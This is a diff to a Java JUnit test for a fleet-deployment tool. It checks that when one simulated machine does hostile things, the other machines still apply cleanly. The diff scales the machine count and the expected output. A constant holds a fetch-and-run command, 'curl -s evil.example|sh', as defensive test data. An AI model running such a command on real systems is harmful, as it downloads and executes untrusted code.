@@ -30,12 +30,17 @@ import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.EnumSource;
 import org.junit.jupiter.params.provider.MethodSource;
 
-/** One machine of many does each hostile thing at each moment; all the others come through. */
+/** One machine of 50 does each hostile thing at each moment; all the others come through. */
 @Tag("scripts")
 @Timeout(120)
 class HostileMachineTest {
   private static final String VILLAIN = "m-05";
   private static final String EVIL = "curl -s evil.example|sh";
+
+  private static final int MANY = 50;
+
+  /** In the other combinations; all of them with more by {@code -Dwalter-fleet.machines=50}. */
+  private static final int FEW = Integer.getInteger("walter-fleet.machines", 10);
 
   private static final List<String> MOMENTS =
       List.of(
@@ -127,7 +132,7 @@ class HostileMachineTest {
     folder = here;
     remote = new MemoryRemote(VILLAIN);
     site = new TestSite(here).reach(real -> remote).ticking(Duration.ofSeconds(1));
-    machines(10);
+    machines(FEW);
   }
 
   private void machines(int number) throws IOException {
@@ -143,6 +148,8 @@ class HostileMachineTest {
   @ParameterizedTest
   @MethodSource("everyMischiefAtEveryMoment")
   void theOthersComeThrough(Mischief mischief, String moment) throws IOException {
+    int number = isOfMany(mischief, moment) ? MANY : FEW;
+    machines(number);
     remote.does(only(moment, mischief.deed));
     if (moment.equals("rollback")) {
       site.knocking(HostileMachineTest::overflow);
@@ -153,7 +160,10 @@ class HostileMachineTest {
     assertThat(ran.exitCode()).as(ran.toString()).isIn(0, 3, 5, 6, 8);
     assertThat(ran.out())
         .as(ran.toString())
-        .containsPattern(ran.exitCode() == 0 ? "10 machines: 10 applied" : "\\b9 applied\\b");
+        .containsPattern(
+            ran.exitCode() == 0
+                ? "%1$d machines: %1$d applied".formatted(number)
+                : "\\b%d applied\\b".formatted(number - 1));
     assertNothingHarmful(ran);
     assertThatItHeals();
   }
@@ -164,7 +174,7 @@ class HostileMachineTest {
     remote.does(only("survey", mischief.deed));
     Ran plan = site.run("plan", "-q", "-i", inventory);
     assertThat(plan.exitCode()).as(plan.toString()).isIn(0, 8);
-    assertThat(plan.out()).containsPattern("\\b(9|10) to change");
+    assertThat(plan.out()).containsPattern("\\b(%d|%d) to change".formatted(FEW - 1, FEW));
     assertNothingHarmful(plan);
     CompletableFuture<Ran> watch =
         CompletableFuture.supplyAsync(() -> site.run("watch", "--every", "1s", "-i", inventory));
@@ -181,7 +191,7 @@ class HostileMachineTest {
   @ParameterizedTest
   @EnumSource(names = {"OVERFLOW", "BUG", "MEMORY"})
   void atTheGateItCountsAsNotReady(Mischief mischief) throws IOException {
-    machines(50);
+    machines(MANY);
     site.knocking(
         machine -> {
           if (machine.equals(VILLAIN)) {
@@ -193,6 +203,12 @@ class HostileMachineTest {
     assertThat(ran.out()).contains("49 applied");
     assertNothingHarmful(ran);
     assertThatItHeals();
+  }
+
+  /** Each mischief once, at each moment one in eleven of them. */
+  private static boolean isOfMany(Mischief mischief, String moment) {
+    int place = List.of(Mischief.values()).indexOf(mischief);
+    return place % MOMENTS.size() == MOMENTS.indexOf(moment);
   }
 
   private static void overflow(String machine) {
